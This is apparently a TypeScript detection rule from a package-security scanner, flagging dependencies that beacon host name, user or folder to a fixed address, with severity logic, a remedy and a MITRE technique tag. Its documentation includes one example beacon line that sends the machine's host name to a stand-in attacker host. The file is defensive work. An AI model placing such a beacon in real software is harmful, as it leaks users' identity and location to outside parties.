import { isCollecting } from '../facts/collecting-places.js';
import { count } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';
import { type Combination, describeLabels, IDENTITY, isUnheard, WHEN } from './combination.js';
import { leaves } from './leaving.js';

export const identitySent: Combination = {
  doc: {
    id: 'identity-sent',
    title: 'Tells a fixed address who and where you are',
    why: 'A beacon with host name, user or folder tells an attacker which organisation has just installed the package.',
    remedy:
      'Do not install the package; look for a private package of the same name that should have been installed.',
    example: 'requests.get("https://evil.invalid/?h=" + socket.gethostname())',
    technique: 'T1082',
  },
  judge: (sighting) => {
    const { labels, reach } = sighting;
    const values = count(labels, IDENTITY);
    if (!leaves(sighting) || values === 0) return undefined;
    if (!isUnasked(reach))
      return values >= 2 && isUnheard(sighting) && isCollecting(sighting.text ?? '') ? 'CRITICAL' : 'LOW';
    // A network answer sent along is, in beacons, the public address that was asked for before.
    return values >= 2 || labels.has('network') || labels.has('system') ? 'CRITICAL' : 'HIGH';
  },
  message: ({ name, reach, labels }) =>
    `${name} sends ${describeLabels(labels)} to a fixed address ${WHEN[reach]}`,
};
